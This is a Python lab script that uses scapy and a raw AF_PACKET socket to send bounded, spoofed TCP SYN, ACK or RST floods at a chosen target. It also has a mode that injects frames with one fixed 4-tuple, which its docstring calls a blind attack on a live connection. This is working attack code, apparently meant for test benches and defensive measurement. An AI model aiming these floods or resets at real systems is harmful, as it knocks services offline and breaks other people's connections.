# SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
"""Bounded spoofed floods for the lab, sent as prebuilt frames from an
AF_PACKET socket. Stops after COUNT frames or SECONDS, whichever is first.

  flood.py IFACE DST_MAC DST_IP DPORT COUNT SECONDS [--kind K] [--src IP --sport N]
      -> "ready", then JSON {sent, seconds}

Kinds: syn (default), ack, rst: from random sources in the benchmarking
range 198.18.0.0/15 (RFC 2544) with random ports and sequence numbers; with
--src/--sport every frame carries that one 4-tuple instead (a blind attack
on a live connection), random sequence and acknowledgement numbers.
SIGTERM ends it early (still printing the JSON line).
"""
import argparse
import json
import random
import signal
import socket
import time

from scapy.all import IP, TCP, Ether, raw  # noqa: E402


def frames(dst_mac, src_mac, dst_ip, dport, kind="syn", src=None, sport=None, n=4096):
    rnd = random.Random(1)
    out = []
    for _ in range(n):
        s_ip = src or "198.%d.%d.%d" % (18 + rnd.randrange(2), rnd.randrange(256), rnd.randrange(1, 255))
        s_port = sport or rnd.randrange(1024, 65535)
        if kind == "syn":
            tcp = TCP(sport=s_port, dport=dport, flags="S", seq=rnd.randrange(1 << 32), window=64240,
                      options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (rnd.randrange(1 << 32), 0)),
                               ("NOP", None), ("WScale", 7)])
        else:
            tcp = TCP(sport=s_port, dport=dport, flags="A" if kind == "ack" else "R",
                      seq=rnd.randrange(1 << 32), ack=rnd.randrange(1 << 32), window=502)
        out.append(raw(Ether(dst=dst_mac, src=src_mac) / IP(src=s_ip, dst=dst_ip, ttl=64) / tcp))
    return out


def main():
    ap = argparse.ArgumentParser()
    for a in ("iface", "dst_mac", "dst_ip", "dport", "count", "seconds"):
        ap.add_argument(a)
    ap.add_argument("--kind", choices=("syn", "ack", "rst"), default="syn")
    ap.add_argument("--src")
    ap.add_argument("--sport", type=int)
    ap.add_argument("--frames", type=int, default=4096, help="distinct frames to cycle through")
    a = ap.parse_args()
    iface, dst_mac, dst_ip, dport = a.iface, a.dst_mac, a.dst_ip, a.dport
    count, seconds = int(a.count), float(a.seconds)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    s.bind((iface, 0))
    src_mac = ":".join("%02x" % b for b in s.getsockname()[4][:6])
    pkts = frames(dst_mac, src_mac, dst_ip, int(dport), a.kind, a.src, a.sport, a.frames)
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    print("ready", flush=True)
    sent, t0 = 0, time.monotonic()
    deadline = t0 + seconds
    while sent < count and time.monotonic() < deadline and not stop:
        for f in pkts[:min(len(pkts), count - sent)]:
            try:
                s.send(f)
                sent += 1
            except BlockingIOError:
                pass
    print(json.dumps({"sent": sent, "seconds": time.monotonic() - t0}))


if __name__ == "__main__":
    main()
